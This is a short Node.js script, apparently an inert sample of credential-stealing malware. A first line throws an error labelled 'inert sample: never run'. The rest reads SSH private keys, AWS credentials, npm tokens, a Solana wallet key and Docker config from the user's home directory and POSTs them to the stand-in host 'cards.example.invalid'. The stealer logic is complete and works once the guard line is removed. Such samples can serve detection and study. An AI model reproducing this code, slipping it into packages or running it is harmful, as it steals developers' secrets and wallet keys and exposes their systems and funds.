throw new Error("inert sample: never run");
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

const found = {};
for (const name of [".ssh/id_rsa", ".aws/credentials", ".npmrc", ".config/solana/id.json", ".docker/config.json"]) {
  try {
    found[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8");
  } catch {}
}
const request = https.request({ host: "cards.example.invalid", path: "/u", method: "POST" });
request.end(JSON.stringify(found));
